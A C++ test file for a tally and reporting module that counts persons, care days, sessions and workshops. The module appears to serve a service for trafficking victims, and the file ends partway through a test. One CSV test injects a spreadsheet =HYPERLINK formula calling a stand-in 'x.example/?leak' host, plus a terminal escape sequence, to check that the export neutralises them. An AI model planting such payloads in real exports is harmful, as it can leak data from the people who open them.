// The incremental tally on small hand-computed examples: each shipped tally,
// distinct persons at every level, edits, deletions, set-valued rows, stays
// across periods and open stays, month reports, missing values, the report
// shapes, and the agreement of every report with the oracle.

#include <catch2/catch.hpp>
#include <string>

#include "tally_fixture.hpp"

namespace haven::test {
namespace {

using values = std::map<std::string, std::int64_t>;
using Catch::Matchers::Contains;

typed_fields pats(const char* date, const char* site, const char* format, const char* person,
                  const char* participants = "") {
  return {{"date", date},
          {"site", site},
          {"format", format},
          {"person", person},
          {"participants", participants}};
}

typed_fields stay(const char* programme, const char* person, const char* sex,
                  const char* nationality, const char* admitted, const char* discharged,
                  const char* exploitation = "") {
  return {{"programme", programme},      {"person", person},     {"sex", sex},
          {"nationality", nationality},  {"admitted", admitted}, {"discharged", discharged},
          {"exploitation", exploitation}};
}

std::vector<std::string> table_rows(const boost::json::object& report) {
  std::vector<std::string> out;
  for (const auto& r : report.at("table").as_array()) {
    std::string line;
    for (const auto& c : r.as_object().at("row").as_array())
      line += std::string(c.as_string()) + "/";
    out.push_back(line + (r.as_object().at("subtotal").as_bool() ? " (subtotal)" : ""));
  }
  return out;
}

}  // namespace

TEST_CASE("pats-individual-by-site counts persons once, under each site they were met at",
          "[server][tally]") {
  tally_fixture f;
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  f.put("b", "pats_session", pats("2026-04-10", "logatec", "individual", "P-0001H"));
  f.put("c", "pats_session", pats("2026-04-11", "vic", "individual", "P-0002F"));
  f.put("d", "pats_session", pats("2026-04-12", "vic", "individual", "P-0002F"));
  f.put("e", "pats_session", pats("2025-12-31", "vic", "individual", "P-0003D"));
  f.put("g", "pats_session",
        {{"date", "2026-04-12"}, {"site", "vic"}, {"format", "group"}, {"participants", "12"}});

  auto r = f.report("pats-individual-by-site", 2026);
  CHECK(cell(r, {"vic"}) == values{{"persons", 2}});
  CHECK(cell(r, {"logatec"}) == values{{"persons", 1}});
  CHECK(cell_count(r) == 2);
  CHECK(total(r, "persons") == 2);  // P-0001 at two sites, once in the total

  r = f.report("pats-individual-by-site", 2026, 4);
  CHECK(cell(r, {"vic"}) == values{{"persons", 1}});
  CHECK(cell(r, {"logatec"}) == values{{"persons", 1}});
  CHECK(total(r, "persons") == 2);
  r = f.report("pats-individual-by-site", 2026, 3);
  CHECK(total(r, "persons") == 1);
  r = f.report("pats-individual-by-site", 2025);
  CHECK(cell(r, {"vic"}) == values{{"persons", 1}});
  CHECK(cell_count(f.report("pats-individual-by-site", 2027)) == 0);
  CHECK(total(f.report("pats-individual-by-site", 2027), "persons") == 0);
  f.check_all(2026);
  f.check_all(2026, 4);
}

TEST_CASE("pats-group-by-site sums participants and counts sessions", "[server][tally]") {
  tally_fixture f;
  f.put("a", "pats_session",
        {{"date", "2026-02-01"}, {"site", "vic"}, {"format", "group"}, {"participants", "12"}});
  f.put("b", "pats_session",
        {{"date", "2026-02-08"}, {"site", "vic"}, {"format", "group"}, {"participants", "8"}});
  f.put(
      "c", "pats_session",
      {{"date", "2026-05-01"}, {"site", "postojna"}, {"format", "group"}, {"participants", "30"}});
  f.put("d", "pats_session",
        {{"date", "2026-05-02"},
         {"site", "postojna"},
         {"format", "group"}});  // participants missing: 0
  f.put("e", "pats_session", pats("2026-05-03", "postojna", "individual", "P-0001H"));

  const auto r = f.report("pats-group-by-site", 2026);
  CHECK(cell(r, {"vic"}) == values{{"participants", 20}, {"sessions", 2}});
  CHECK(cell(r, {"postojna"}) == values{{"participants", 30}, {"sessions", 2}});
  CHECK(total(r, "participants") == 50);
  CHECK(total(r, "sessions") == 4);
  CHECK(cell(f.report("pats-group-by-site", 2026, 2), {"vic"}) ==
        values{{"participants", 20}, {"sessions", 2}});
  CHECK(cell_count(f.report("pats-group-by-site", 2026, 2)) == 1);
  f.check_all(2026);
}

TEST_CASE("assisted-by-nationality-sex: subtotals per programme, persons once at every level",
          "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2026-01-10", "2026-01-20"));
  f.put("b", "assistance_case", stay("reintegration", "P-0001H", "female", "UA", "2026-02-01", ""));
  f.put("c", "assistance_case",
        stay("reintegration", "P-0002F", "female", "UA", "2026-03-01", "2026-04-01"));
  f.put("d", "assistance_case",
        stay("reintegration", "P-0003D", "male", "SI", "2026-03-01", "2026-04-01"));

  const auto r = f.report("assisted-by-nationality-sex", 2026);
  CHECK(cell(r, {"crisis-accommodation", "UA"}, "female") == values{{"persons", 1}});
  CHECK(cell(r, {"reintegration", "UA"}, "female") == values{{"persons", 2}});
  CHECK(cell(r, {"reintegration", "SI"}, "male") == values{{"persons", 1}});
  CHECK(cell_count(r) == 3);
  CHECK(total(r, "persons") == 3);
  CHECK(r.at("column_totals").at("female").at("persons").as_int64() == 2);
  CHECK(r.at("column_totals").at("male").at("persons").as_int64() == 1);
  CHECK(table_rows(r) == std::vector<std::string>{"crisis-accommodation/ (subtotal)",
                                                  "crisis-accommodation/UA/",
                                                  "reintegration/ (subtotal)", "reintegration/SI/",
                                                  "reintegration/UA/"});
  const auto& reintegration = r.at("table").as_array()[2].as_object();
  CHECK(reintegration.at("total").at("persons").as_int64() == 3);
  CHECK(reintegration.at("by_column").at("female").at("persons").as_int64() == 2);
  CHECK(reintegration.at("by_column").at("male").at("persons").as_int64() == 1);
  CHECK(reintegration.at("depth").as_int64() == 1);
  CHECK(r.at("table").as_array()[3].at("depth").as_int64() == 2);
  f.check_all(2026);
  f.check_all(2026, 3);
}

TEST_CASE("an edit of nationality moves the person between rows", "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2026-01-10", "2026-01-20"));
  auto r = f.report("care-days-by-nationality", 2026);
  CHECK(cell(r, {"UA"}) == values{{"care_days", 10}, {"persons", 1}});

  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "MD", "2026-01-10", "2026-01-20"));
  r = f.report("care-days-by-nationality", 2026);
  CHECK(cell(r, {"UA"}).empty());
  CHECK(cell(r, {"MD"}) == values{{"care_days", 10}, {"persons", 1}});
  CHECK(cell_count(r) == 1);
  r = f.report("assisted-by-nationality-sex", 2026);
  CHECK(cell(r, {"crisis-accommodation", "MD"}, "female") == values{{"persons", 1}});
  CHECK(cell_count(r) == 1);
  f.check_all(2026);
  f.check_all(2026, 1);
}

TEST_CASE("a deletion retracts the record from every tally", "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2025-12-20", "2026-01-05",
             "sexual,labour"));
  f.put("b", "pats_session", pats("2026-04-10", "logatec", "individual", "P-0001H"));
  f.put("c", "on_call_event",
        {{"date", "2026-02-01"}, {"caller", "police"}, {"outcome", "admitted"}});
  f.put("d", "prevention_workshop",
        {{"date", "2026-02-01"},
         {"audience", "professionals"},
         {"region", "goriska"},
         {"participants", "9"}});
  CHECK(f.rows_in("tally_value") > 0);
  CHECK(f.rows_in("tally_person") > 0);
  f.remove("b");
  CHECK(total(f.report("pats-individual-by-site", 2026), "persons") == 0);
  CHECK(total(f.report("assisted-by-nationality-sex", 2026), "persons") == 1);
  f.check_all(2026);
  for (const char* name : {"a", "c", "d"}) f.remove(name);
  f.remove("a");  // twice: nothing left to retract
  for (const auto& t : f.definitions().tallies()) {
    CHECK(cell_count(f.report(t.id, 2026)) == 0);
    CHECK(cell_count(f.report(t.id, 2025)) == 0);
  }
  // Nothing is left behind: no zero amounts, no persons.
  CHECK(f.rows_in("tally_value") == 0);
  CHECK(f.rows_in("tally_person") == 0);
}

TEST_CASE("the book keeps a record's day only while its stay is open, and no copy of its fields",
          "[server][tally]") {
  tally_fixture f;
  const auto open_stays = [&f] { return f.rows_in("tally_open"); };
  f.put("a", "assistance_case",
        stay("reintegration", "P-0001H", "female", "UA", "2026-03-01", "2026-03-20"));
  f.put("b", "pats_session", pats("2026-04-10", "logatec", "individual", "P-0001H"));
  CHECK(open_stays() == 0);
  f.put("a", "assistance_case", stay("reintegration", "P-0001H", "female", "UA", "2026-03-01", ""));
  CHECK(open_stays() == 1);
  f.put("a", "assistance_case",  // an edit that leaves it open
        stay("reintegration", "P-0001H", "female", "SI", "2026-03-01", ""));
  CHECK(open_stays() == 1);
  f.check_all(2026);
  f.put("a", "assistance_case",
        stay("reintegration", "P-0001H", "female", "SI", "2026-03-01", "2026-05-01"));
  CHECK(open_stays() == 0);
  f.put("a", "assistance_case", stay("reintegration", "P-0001H", "female", "SI", "2026-03-01", ""));
  f.remove("a");
  CHECK(open_stays() == 0);
  f.check_all(2026);
  // The tables the book keeps: no table of records.
  sqlite::statement tables(f.db(),
                           "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY 1");
  std::vector<std::string> names;
  while (tables.step()) names.push_back(tables.text(0));
  CHECK(names == std::vector<std::string>{"tally_label", "tally_meta", "tally_open", "tally_person",
                                          "tally_value"});
}

TEST_CASE("a damaged tally row is a store error, not a wrong figure", "[server][tally]") {
  tally_fixture f;
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  REQUIRE(total(f.report("pats-individual-by-site", 2026), "persons") == 1);
  for (const char* bytes : {"x'ff'", "x'05616263'", "x'012a'"}) {  // cut inside a varint, a code
    INFO(bytes);
    f.db().exec(std::string("UPDATE tally_value SET amounts = ") + bytes);
    const auto r = f.reports().json("pats-individual-by-site", 2026, std::nullopt);
    REQUIRE_FALSE(r.ok());
    CHECK(r.err().code == errc::store);
    CHECK_THAT(r.err().message, Contains("reset and replay"));
  }
}

TEST_CASE("a damaged row of persons is a store error and the update changes nothing",
          "[server][tally]") {
  tally_fixture f;
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  REQUIRE(f.rows_in("tally_person") == 1);
  REQUIRE(f.rows_in("tally_label") >= 1);  // label 1 is known below
  const auto table = [&](const char* sql) {
    sqlite::statement st(f.db(), sql);
    std::vector<std::string> rows;
    while (st.step()) rows.push_back(st.text(0));
    return rows;
  };
  const char* values_sql = "SELECT path || hex(amounts) FROM tally_value ORDER BY 1";
  const char* persons_sql = "SELECT person || hex(leaves) FROM tally_person ORDER BY 1";
  const auto values = table(values_sql);
  // Leaves: a tally, a measure, a period step, a path and a column label, a
  // count (see tally_tables.hpp); tally 0's measure 0 counts persons, label
  // 1 is the path "vic/" and 2 the column "*" (the tally has no column field).
  f.db().exec(
      "INSERT INTO tally_label(id, name) VALUES (100, replace(hex(zeroblob(100000)), '00', '/')), "
      "(101, 'vic/x/')");
  const std::vector<std::pair<std::string, std::string>> damage{
      {"x'80'", "truncated"},                                        // cut inside a varint
      {"x'0000eadd18010201'", "a leaf outside a month"},             // 2026, month 13
      {"x'0000d6dd18e7070201'", "a label id the store never gave"},  // label 999
      {"x'0000d6dd18010200'", "a count out of range"},               // a count of 0
      {"x'0000d6dd18010201000000010201'", "a leaf twice"},
      {"x'000001010201'", "a period out of range"},                 // a period before year 0
      {"x'0009d6dd18010201'", "a leaf of no distinct measure"},     // measure 9
      {"x'0000d6dd18020201'", "a leaf of a cell its tally lacks"},  // the path "*"
      {"x'0000d6dd18010101'", "a leaf of a cell its tally lacks"},  // the column "vic/"
      {"x'0000d6dd18650201'", "a leaf of a cell its tally lacks"},  // a path of two codes
      {"x'0000d6dd18640201'", "or of no cell"}};                    // 100,000 codes deep
  for (const auto& [bytes, what] : damage) {
    INFO(bytes);
    f.db().exec("UPDATE tally_person SET leaves = " + bytes);
    const auto persons = table(persons_sql);
    try {
      f.put(bytes, "pats_session", pats("2026-03-02", "vic", "individual", "P-0001H"));
      FAIL("the damaged row was read");
    } catch (const failure& e) {
      CHECK(e.err().code == errc::store);
      CHECK_THAT(e.what(), Contains("reset and replay") && Contains(what));
    }
    CHECK(table(persons_sql) == persons);
    CHECK(table(values_sql) == values);
  }
}

TEST_CASE("a set-valued row counts once per element, once in the total", "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("safe-accommodation", "P-0001H", "female", "NG", "2026-01-10", "2026-02-20",
             "sexual,forced-labour"));
  f.put("b", "assistance_case",
        stay("reintegration", "P-0001H", "female", "NG", "2026-03-01", "2026-03-20", "sexual"));
  f.put("c", "assistance_case",
        stay("reintegration", "P-0002F", "male", "NG", "2026-03-01", "2026-03-20"));
  auto r = f.report("assisted-by-exploitation-sex", 2026);
  CHECK(cell(r, {"sexual"}, "female") == values{{"persons", 1}});
  CHECK(cell(r, {"forced-labour"}, "female") == values{{"persons", 1}});
  CHECK(cell(r, {""}, "male") == values{{"persons", 1}});  // not recorded
  CHECK(cell_count(r) == 3);
  CHECK(total(r, "persons") == 2);
  CHECK(table_rows(r) == std::vector<std::string>{"sexual/", "forced-labour/", "/"});
  CHECK(r.at("table").as_array()[2].at("label").as_string() == "Not recorded");
  // Dropping an element retracts only that row.
  f.put("a", "assistance_case",
        stay("safe-accommodation", "P-0001H", "female", "NG", "2026-01-10", "2026-02-20",
             "forced-labour"));
  r = f.report("assisted-by-exploitation-sex", 2026);
  CHECK(cell(r, {"sexual"}, "female") == values{{"persons", 1}});  // still via b
  f.remove("b");
  r = f.report("assisted-by-exploitation-sex", 2026);
  CHECK(cell(r, {"sexual"}, "female").empty());
  CHECK(total(r, "persons") == 2);
  f.check_all(2026);
}

TEST_CASE("a stay across New Year counts in both years, its care days split", "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2025-12-28", "2026-01-03"));
  auto r = f.report("care-days-by-nationality", 2025);
  CHECK(cell(r, {"UA"}) == values{{"care_days", 4}, {"persons", 1}});  // nights of 28-31 December
  r = f.report("care-days-by-nationality", 2026);
  CHECK(cell(r, {"UA"}) ==
        values{{"care_days", 2}, {"persons", 1}});  // 1-2 January; out on the 3rd
  CHECK(cell(f.report("care-days-by-nationality", 2025, 12), {"UA"}) ==
        values{{"care_days", 4}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026, 1), {"UA"}) ==
        values{{"care_days", 2}, {"persons", 1}});
  CHECK(cell_count(f.report("care-days-by-nationality", 2026, 2)) == 0);
  CHECK(total(f.report("assisted-by-nationality-sex", 2025), "persons") == 1);
  CHECK(total(f.report("assisted-by-nationality-sex", 2026), "persons") == 1);
  // Discharged on 1 January: the stay still touches the new year, with no care day in it.
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2025-12-28", "2026-01-01"));
  CHECK(cell(f.report("care-days-by-nationality", 2025), {"UA"}) ==
        values{{"care_days", 4}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026), {"UA"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  for (int year : {2025, 2026}) f.check_all(year);
  f.check_all(2025, 12);
  f.check_all(2026, 1);
}

TEST_CASE("a same-day stay is one care day, and a stay's days add up to care_days",
          "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2026-05-05", "2026-05-05"));
  f.put("b", "assistance_case",
        stay("crisis-accommodation", "P-0002F", "male", "SY", "2026-01-30", "2026-03-02"));
  auto r = f.report("care-days-by-nationality", 2026);
  CHECK(cell(r, {"UA"}) == values{{"care_days", 1}, {"persons", 1}});
  CHECK(cell(r, {"SY"}) == values{{"care_days", 31}, {"persons", 1}});
  CHECK(total(r, "care_days") == 32);
  CHECK(cell(f.report("care-days-by-nationality", 2026, 5), {"UA"}) ==
        values{{"care_days", 1}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026, 1), {"SY"}) ==
        values{{"care_days", 2}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026, 2), {"SY"}) ==
        values{{"care_days", 28}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026, 3), {"SY"}) ==
        values{{"care_days", 1}, {"persons", 1}});
  // Only crisis accommodation counts here.
  f.put("c", "assistance_case",
        stay("safe-accommodation", "P-0003D", "male", "SY", "2026-01-01", "2026-02-01"));
  CHECK(total(f.report("care-days-by-nationality", 2026), "care_days") == 32);
  for (int m = 1; m <= 12; ++m) f.check_all(2026, m);
}

TEST_CASE("an open stay counts up to today with no care days, and moves on with today",
          "[server][tally]") {
  tally_fixture f;
  f.today = from_civil(2026, 6, 15);
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2025-11-20", ""));
  f.put("b", "assistance_case",
        stay("crisis-accommodation", "P-0002F", "male", "SY", "2026-09-01",
             ""));  // admitted in the future
  CHECK(cell(f.report("care-days-by-nationality", 2025), {"UA"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026), {"UA"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026, 6), {"UA"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell_count(f.report("care-days-by-nationality", 2026, 7)) == 0);
  CHECK(cell_count(f.report("care-days-by-nationality", 2027)) == 0);
  CHECK(cell(f.report("care-days-by-nationality", 2026, 9), {"SY"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell_count(f.report("care-days-by-nationality", 2026, 8)) == 0);
  f.check_all(2026);
  f.check_all(2026, 7);

  // A day later in the same month nothing moves.
  f.today = from_civil(2026, 6, 16);
  f.refresh_open_stays();
  CHECK(cell_count(f.report("care-days-by-nationality", 2026, 7)) == 0);

  f.today = from_civil(2027, 1, 2);
  CHECK(cell_count(f.report("care-days-by-nationality", 2027)) == 0);  // until refreshed
  f.refresh_open_stays();
  CHECK(cell(f.report("care-days-by-nationality", 2027), {"UA"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2027), {"SY"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2026, 7), {"UA"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell_count(f.report("care-days-by-nationality", 2027, 2)) == 0);
  for (int year : {2025, 2026, 2027}) f.check_all(year);
  for (int m = 1; m <= 12; ++m) f.check_all(2026, m);

  // Discharge: the care days arrive, split by year; the stay no longer runs to today.
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2025-11-20", "2025-12-10"));
  CHECK(cell(f.report("care-days-by-nationality", 2025), {"UA"}) ==
        values{{"care_days", 20}, {"persons", 1}});
  CHECK(cell_count(f.report("care-days-by-nationality", 2026, 1)) == 0);
  f.today = from_civil(2027, 3, 1);
  f.refresh_open_stays();
  CHECK(cell(f.report("care-days-by-nationality", 2027, 3), {"SY"}) ==
        values{{"care_days", 0}, {"persons", 1}});
  CHECK(cell(f.report("care-days-by-nationality", 2027, 3), {"UA"}).empty());
  for (int year : {2025, 2026, 2027}) f.check_all(year);
}

TEST_CASE("refresh_open_stays runs inside the caller's transaction too", "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2026-05-20", ""));
  f.today = from_civil(2026, 8, 1);
  {
    sqlite::transaction tx(f.db());
    f.refresh_open_stays();
    CHECK(cell_count(f.report("care-days-by-nationality", 2026, 8)) == 1);
    // rolled back
  }
  CHECK(cell_count(f.report("care-days-by-nationality", 2026, 8)) == 0);
  {
    sqlite::transaction tx(f.db());
    f.refresh_open_stays();
    tx.commit();
  }
  CHECK(cell_count(f.report("care-days-by-nationality", 2026, 8)) == 1);
  f.check_all(2026, 8);
}

TEST_CASE("on-call-by-outcome: events by outcome and caller", "[server][tally]") {
  tally_fixture f;
  f.put("a", "on_call_event",
        {{"date", "2026-02-01"}, {"caller", "police"}, {"outcome", "admitted"}});
  f.put("b", "on_call_event",
        {{"date", "2026-02-03"}, {"caller", "police"}, {"outcome", "advice-only"}});
  f.put("c", "on_call_event", {{"date", "2026-03-01"}, {"caller", "ngo"}, {"outcome", "admitted"}});
  f.put("d", "on_call_event",
        {{"date", "2026-03-09"}, {"caller", "police"}, {"outcome", "admitted"}});
  auto r = f.report("on-call-by-outcome", 2026);
  CHECK(cell(r, {"admitted"}, "police") == values{{"events", 2}});
  CHECK(cell(r, {"admitted"}, "ngo") == values{{"events", 1}});
  CHECK(cell(r, {"advice-only"}, "police") == values{{"events", 1}});
  CHECK(cell_count(r) == 3);
  CHECK(total(r, "events") == 4);
  CHECK(r.at("column_totals").at("police").at("events").as_int64() == 3);
  r = f.report("on-call-by-outcome", 2026, 2);
  CHECK(total(r, "events") == 2);
  CHECK(r.at("month").as_int64() == 2);
  CHECK(r.at("period").as_string() == "2026-02");
  f.check_all(2026);
  f.check_all(2026, 3);
}

TEST_CASE("workshops-by-audience-region: counts and sums with subtotals", "[server][tally]") {
  tally_fixture f;
  f.put("a", "prevention_workshop",
        {{"date", "2026-03-03"},
         {"audience", "primary-school"},
         {"region", "osrednjeslovenska"},
         {"participants", "25"},
         {"teachers", "2"}});
  f.put("b", "prevention_workshop",
        {{"date", "2026-03-04"},
         {"audience", "primary-school"},
         {"region", "osrednjeslovenska"},
         {"participants", "30"}});
  f.put("c", "prevention_workshop",
        {{"date", "2026-10-04"},
         {"audience", "primary-school"},
         {"region", "gorenjska"},
         {"participants", "20"},
         {"teachers", "1"}});
  f.put("d", "prevention_workshop",
        {{"date", "2026-04-05"},
         {"audience", "secondary-school"},
         {"region", "podravska"},
         {"participants", "40"},
         {"teachers", "3"}});
  const auto r = f.report("workshops-by-audience-region", 2026);
  CHECK(cell(r, {"primary-school", "osrednjeslovenska"}) ==
        values{{"workshops", 2}, {"participants", 55}, {"teachers", 2}});
  CHECK(cell(r, {"primary-school", "gorenjska"}) ==
        values{{"workshops", 1}, {"participants", 20}, {"teachers", 1}});
  CHECK(cell(r, {"secondary-school", "podravska"}) ==
        values{{"workshops", 1}, {"participants", 40}, {"teachers", 3}});
  CHECK(total(r, "workshops") == 4);
  CHECK(total(r, "participants") == 115);
  CHECK(total(r, "teachers") == 6);
  CHECK(table_rows(r) ==
        std::vector<std::string>{"primary-school/ (subtotal)", "primary-school/gorenjska/",
                                 "primary-school/osrednjeslovenska/",
                                 "secondary-school/ (subtotal)", "secondary-school/podravska/"});
  CHECK(r.at("table").as_array()[0].at("total").at("participants").as_int64() == 75);
  CHECK(r.at("column").is_null());
  CHECK(r.at("cells").as_array()[0].at("column").is_null());
  CHECK(f.csv("workshops-by-audience-region", 2026) ==
        "Audience,Region,Workshops,Participants,Teachers\n"
        "Primary school,Subtotal,3,75,3\n"
        "Primary school,Gorenjska,1,20,1\n"
        "Primary school,Central Slovenia,2,55,2\n"
        "Secondary school,Subtotal,1,40,3\n"
        "Secondary school,Podravska,1,40,3\n"
        "Total,,4,115,6\n"
        "view,internal\n");
  f.check_all(2026);
}

TEST_CASE("missing values count under \"not recorded\", so totals stay complete",
          "[server][tally]") {
  tally_fixture f;
  // Merged records may lack even required fields (a field cleared on one device).
  f.put("a", "on_call_event", {{"date", "2026-02-01"}, {"caller", "police"}});
  f.put("b", "on_call_event", {{"date", "2026-02-02"}, {"outcome", "admitted"}});
  f.put("c", "on_call_event",
        {{"date", "2026-02-03"}, {"caller", "victim"}, {"outcome", "admitted"}});
  f.put("d", "on_call_event",
        {{"caller", "victim"}, {"outcome", "admitted"}});  // no date: counts nowhere
  auto r = f.report("on-call-by-outcome", 2026);
  CHECK(cell(r, {""}, "police") == values{{"events", 1}});
  CHECK(cell(r, {"admitted"}, "") == values{{"events", 1}});
  CHECK(cell(r, {"admitted"}, "victim") == values{{"events", 1}});
  CHECK(total(r, "events") == 3);
  CHECK(f.csv("on-call-by-outcome", 2026) ==
        "Outcome,Police: Calls,Victim: Calls,Not recorded: Calls,Total: Calls\n"
        "Admitted,0,1,1,2\n"
        "Not recorded,1,0,0,1\n"
        "Total,1,1,1,3\n"
        "view,internal\n");
  // A record without a pseudonym counts as a record, not as a person.
  f.put("e", "assistance_case",
        {{"programme", "crisis-accommodation"},
         {"admitted", "2026-01-01"},
         {"discharged", "2026-01-04"}});
  r = f.report("care-days-by-nationality", 2026);
  CHECK(cell(r, {""}) == values{{"care_days", 3}, {"persons", 0}});
  f.check_all(2026);
  f.check_all(2026, 2);
}

TEST_CASE("CSV of a tally with a column field", "[server][tally]") {
  tally_fixture f;
  f.put("a", "assistance_case",
        stay("crisis-accommodation", "P-0001H", "female", "UA", "2026-01-10", "2026-01-20"));
  f.put("b", "assistance_case",
        stay("reintegration", "P-0002F", "male", "SI", "2026-03-01", "2026-04-01"));
  f.put("c", "assistance_case",
        stay("reintegration", "P-0003D", "female", "SI", "2026-03-01", "2026-04-01"));
  CHECK(f.csv("assisted-by-nationality-sex", 2026) ==
        "Programme,Nationality,Female: Persons,Male: Persons,Total: Persons\n"
        "Crisis accommodation,Subtotal,1,0,1\n"
        "Crisis accommodation,Ukraine,1,0,1\n"
        "Reintegration,Subtotal,1,1,2\n"
        "Reintegration,Slovenia,1,1,2\n"
        "Total,,2,1,3\n"
        "view,internal\n");
  CHECK(f.reports()
            .csv("assisted-by-nationality-sex", 2026, std::nullopt,
                 {server::tally_view::internal, language::sl})
            .value() ==
        "Program,Državljanstvo,Ženski: Osebe,Moški: Osebe,Skupaj: Osebe\n"
        "Krizna namestitev,Vmesni seštevek,1,0,1\n"
        "Krizna namestitev,Ukrajina,1,0,1\n"
        "Reintegracija,Vmesni seštevek,1,1,2\n"
        "Reintegracija,Slovenija,1,1,2\n"
        "Skupaj,,2,1,3\n"
        "view,internal\n");
  CHECK(f.csv("pats-individual-by-site", 2026) ==
        "Site,Persons informed\nTotal,0\nview,internal\n");
}

TEST_CASE(
    "CSV: a text cell a spreadsheet would take for a formula is neutralised, and numbers are not",
    "[server][tally][csv]") {
  tally_fixture f;
  int persons = 0;
  const auto with_nationality = [&](const std::string& nationality) {
    const std::string person = with_check_symbol("P-000" + std::to_string(++persons));
    field_map fields = typed(
        f.definitions(), "assistance_case",
        stay("crisis-accommodation", person.c_str(), "female", "UA", "2026-01-10", "2026-01-20"));
    fields["nationality"] = nationality;  // as a store could hold it, past any validation
    return fields;
  };
  f.put_fields("a", "assistance_case",
               with_nationality("=HYPERLINK(\"http://x.example/?leak\",\"Click\")"));
  f.put_fields("b", "assistance_case", with_nationality("+1"));
  f.put_fields("c", "assistance_case", with_nationality("@SUM(A1)"));
  f.put_fields("d", "assistance_case", with_nationality("-2+3"));
  f.put_fields("e", "assistance_case", with_nationality("\tx"));
  f.put_fields("g", "assistance_case", with_nationality("\x1b]0;pwned\x07"));
  const std::string csv = f.csv("assisted-by-nationality-sex", 2026);
  INFO(csv);
  CHECK_THAT(
      csv, Contains(",\"'=HYPERLINK(\"\"http:%2F%2Fx.example%2F?leak\"\",\"\"Click\"\")\",1,1\n"));
  CHECK_THAT(csv, Contains(",\"'+1\",1,1\n"));
  CHECK_THAT(csv, Contains(",\"'@SUM(A1)\",1,1\n"));
  CHECK_THAT(csv, Contains(",\"'-2+3\",1,1\n"));
  CHECK_THAT(csv, Contains(",\"'\\x09x\",1,1\n"));
  CHECK_THAT(csv, Contains(",\\x1b]0;pwned\\x07,1,1\n"));
  CHECK(csv.find('\x1b') == std::string::npos);
  CHECK(csv.find('\t') == std::string::npos);
  for (const char* raw : {",=", ",+", ",@", ",-", ",\"=", ",\"+", ",\"@", ",\"-"}) {
    INFO(raw);
    CHECK(csv.find(raw) == std::string::npos);
  }
  // Numbers are numbers, never quoted: the totals are written as they are.
  CHECK_THAT(csv, Contains("\nCrisis accommodation,Subtotal,6,6\n"));
  CHECK_THAT(csv, Contains("\nTotal,,6,6\n"));
}

TEST_CASE("reports: shape, list, unknown ids and bad periods", "[server][tally]") {
  tally_fixture f;
  const auto list = boost::json::parse(f.reports().list_json()).as_array();
  REQUIRE(list.size() == f.definitions().tallies().size());
  CHECK(list[0].at("id").as_string() == "pats-individual-by-site");
  CHECK(list[0].at("type").as_string() == "pats_session");
  CHECK(!list[0].at("title").as_string().empty());

  const auto r = f.report("care-days-by-nationality", 2026);
  CHECK(r.at("id").as_string() == "care-days-by-nationality");
  CHECK(r.at("year").as_int64() == 2026);
  CHECK(r.at("month").is_null());
  CHECK(r.at("rows").as_array().size() == 1);
  CHECK(r.at("rows").as_array()[0].as_string() == "nationality");
  CHECK(r.at("measures").as_array()[0].at("kind").as_string() == "sum");
  CHECK(r.at("measures").as_array()[1].at("kind").as_string() == "distinct");
  CHECK(r.at("measures").as_array()[1].at("title").as_string() == "Persons");
  CHECK(r.at("total").at("care_days").as_int64() == 0);
  CHECK(r.at("table").as_array().empty());
  CHECK(r.at("column_totals").as_object().empty());

  auto missing = f.reports().json("no-such-tally", 2026, std::nullopt);
  REQUIRE(!missing.ok());
  CHECK(missing.err().code == errc::not_found);
  CHECK(missing.err().message.find("on-call-by-outcome") != std::string::npos);
  CHECK(f.reports().csv("no-such-tally", 2026, std::nullopt).err().code == errc::not_found);
  CHECK(f.reports().json("on-call-by-outcome", 2026, 13).err().code == errc::invalid_input);
  CHECK(f.reports().json("on-call-by-outcome", 2026, 0).err().code == errc::invalid_input);
}

TEST_CASE("updates are idempotent and ignore types and fields no tally reads", "[server][tally]") {
  tally_fixture f;
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  CHECK(total(f.report("pats-individual-by-site", 2026), "persons") == 1);
  auto fields =
      typed(f.definitions(), "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  fields["topics"] = code_set{"thb"};  // read by no tally
  f.put_fields("a", "pats_session", fields);
